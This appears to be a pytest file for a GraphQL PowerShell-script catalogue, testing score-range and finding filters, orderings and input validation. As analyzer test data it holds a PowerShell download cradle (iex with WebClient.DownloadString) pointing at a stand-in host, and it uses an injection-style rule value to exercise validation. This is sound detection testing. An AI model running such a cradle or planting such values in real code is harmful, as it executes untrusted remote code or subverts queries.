"""A catalogue's filters: score ranges, findings by rule and severity, in `scripts` and `searchScripts`."""

from __future__ import annotations

from typing import Any

import pytest

from psscript_graphql.analyzer.analyze import analyze_script
from psscript_graphql.db.session import Database
from tests import factories
from tests.support.graphql import run, run_with_errors

LIST = """query($filter: ScriptFilter, $order: ScriptOrder) {
  scripts(filter: $filter, orderBy: $order, first: 100) { totalCount nodes { title } } }"""
SEARCH = """query($filter: ScriptFilter) {
  searchScripts(query: "report", mode: TEXT, filter: $filter, first: 100) { totalCount edges { node { title } } } }"""
RISKY = 'iex (New-Object Net.WebClient).DownloadString("http://x.example/a.ps1")\n'
TIDY = 'Write-Host "Top five"\nGet-Process | Sort-Object CPU -Descending | Select-Object -First 5\n'


def _stored(content: str) -> dict[str, Any]:
    """The finding columns the analyzer stores for `content`."""
    result = analyze_script(content)
    return {
        name: getattr(result, name)
        for name in ("security_issues", "best_practice_violations", "performance_insights", "compatibility_notes")
    }


@pytest.fixture
async def catalogue(clean_db: Database) -> Database:
    """Four public scripts: two analysed with findings, one analysed clean-ish, one never analysed."""
    async with clean_db.transaction() as session:
        author = await factories.make_user(session)
        rows = [
            ("Risky report", RISKY, {"security_score": 20, "quality_score": 60, "risk_score": 90}),
            ("Tidy report", TIDY, {"security_score": 95, "quality_score": 85, "risk_score": 5}),
            ("Middling report", RISKY + TIDY, {"security_score": 55, "quality_score": 40, "risk_score": 50}),
        ]
        for title, content, scores in rows:
            script = await factories.make_script(session, author=author, title=title, content=content, is_public=True)
            await factories.make_analysis(session, script=script, **scores, **_stored(content))
        await factories.make_script(session, author=author, title="Unanalysed report", content=TIDY + "#x\n", is_public=True)
    return clean_db


async def _titles(db: Database, filter: dict[str, Any], order: dict[str, str] | None = None) -> list[str]:
    data = await run(db, LIST, {"filter": filter, "order": order})
    return [node["title"] for node in data["scripts"]["nodes"]]


@pytest.mark.parametrize(
    ("filter", "expected"),
    [
        ({"securityScoreMin": 50}, {"Tidy report", "Middling report"}),
        ({"securityScoreMax": 54}, {"Risky report"}),
        ({"qualityScoreMin": 60, "qualityScoreMax": 85}, {"Risky report", "Tidy report"}),
        ({"qualityScoreMax": 39}, set()),
        ({"riskScoreMin": 50}, {"Risky report", "Middling report"}),
        ({"riskScoreMax": 10, "securityScoreMin": 90}, {"Tidy report"}),
        ({"riskScoreMin": 0}, {"Risky report", "Tidy report", "Middling report"}),  # unanalysed never match a range
    ],
)
async def test_score_ranges(catalogue: Database, filter: dict[str, Any], expected: set[str]) -> None:
    assert set(await _titles(catalogue, filter)) == expected


@pytest.mark.parametrize(
    ("finding", "expected"),
    [
        ({"rule": "PSAvoidUsingInvokeExpression"}, {"Risky report", "Middling report"}),
        ({"rule": "PSNoSuchRule"}, set()),
        ({"minSeverity": "INFORMATION"}, {"Risky report", "Middling report", "Tidy report"}),
        ({"minSeverity": "WARNING"}, {"Risky report", "Middling report", "Tidy report"}),
        ({"minSeverity": "ERROR"}, {"Risky report", "Middling report"}),
        ({"minSeverity": "CRITICAL"}, {"Risky report", "Middling report"}),
        ({"rule": "PSAvoidUsingInvokeExpression", "minSeverity": "WARNING"}, {"Risky report", "Middling report"}),
        # Both have an Invoke-Expression finding and a critical one, but no finding that is both.
        ({"rule": "PSAvoidUsingInvokeExpression", "minSeverity": "CRITICAL"}, set()),
        ({"rule": "PSAvoidUsingWriteHost"}, {"Tidy report", "Middling report"}),
    ],
)
async def test_has_finding_by_rule_and_severity(catalogue: Database, finding: dict[str, Any], expected: set[str]) -> None:
    assert set(await _titles(catalogue, {"hasFinding": finding})) == expected
    # searchScripts takes the same filter.
    data = await run(catalogue, SEARCH, {"filter": {"hasFinding": finding}})
    assert {edge["node"]["title"] for edge in data["searchScripts"]["edges"]} == expected


async def test_the_fixture_findings_are_what_the_cases_assume(catalogue: Database) -> None:
    def found(content: str) -> set[tuple[str, str]]:
        return {(f["rule"], f["severity"]) for column in _stored(content).values() for f in column}

    assert {("PSAvoidUsingInvokeExpression", "warning"), ("PSDownloadCradle", "critical")} <= found(RISKY)
    assert ("PSAvoidUsingWriteHost", "warning") in found(TIDY)
    assert not {severity for _, severity in found(TIDY)} & {"error", "critical"}


@pytest.mark.parametrize("field", ["SECURITY_SCORE", "QUALITY_SCORE", "RISK_SCORE"])
async def test_score_orderings_put_unanalysed_scripts_last_both_ways(catalogue: Database, field: str) -> None:
    descending = await _titles(catalogue, {}, {"field": field, "direction": "DESC"})
    ascending = await _titles(catalogue, {}, {"field": field, "direction": "ASC"})
    assert descending[-1] == ascending[-1] == "Unanalysed report"
    assert descending[:3] == list(reversed(ascending[:3]))
    key = {"SECURITY_SCORE": "Tidy report", "QUALITY_SCORE": "Tidy report", "RISK_SCORE": "Risky report"}[field]
    assert descending[0] == key


@pytest.mark.parametrize(
    ("filter", "message"),
    [
        ({"qualityScoreMin": 101}, "`qualityScoreMin` must be between 0 and 100"),
        ({"riskScoreMax": -1}, "`riskScoreMax` must be between 0 and 100"),
        ({"riskScoreMin": 60, "riskScoreMax": 50}, "`riskScoreMin` cannot be greater than `riskScoreMax`"),
        ({"hasFinding": {}}, "`hasFinding` needs `rule`, `minSeverity` or both"),
        ({"hasFinding": {"rule": "x' || true"}}, "`hasFinding.rule` must be a rule id"),
        ({"hasFinding": {"rule": ""}}, "`hasFinding.rule` must be a rule id"),
    ],
)
async def test_bad_filters_are_clear_errors(catalogue: Database, filter: dict[str, Any], message: str) -> None:
    data, errors = await run_with_errors(catalogue, LIST, {"filter": filter})
    assert data is None and errors[0]["message"].startswith(message)
    assert errors[0]["extensions"]["code"] == "BAD_USER_INPUT"
